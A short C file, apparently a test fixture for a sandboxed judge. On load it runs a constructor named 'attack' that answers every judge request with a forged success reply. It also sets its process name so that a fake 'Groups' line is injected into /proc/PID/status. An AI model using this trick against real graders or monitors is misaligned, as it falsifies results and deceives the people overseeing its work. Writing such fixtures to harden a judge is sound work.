/*
 * Answers the judge's calls itself, each with success, in a process whose name looks like a line of
 * /proc/PID/status.
 */
#include <sys/prctl.h>
#include <sys/socket.h>

#include "lab-users/oci/process/user.c"

/* As in tests/judge/message.h. */
struct reply {
	int64_t result;
	int flags, error;
	struct failure failure;
	char bytes[65536];
};

__attribute__((constructor)) static void attack(void)
{
	static const struct reply reply;
	static char request[80000];

	prctl(PR_SET_NAME, "\nGroups:\t11 \n", 0, 0, 0);
	while (recv(3, request, sizeof(request), 0) > 0)
		send(3, &reply, sizeof(reply), 0);
}
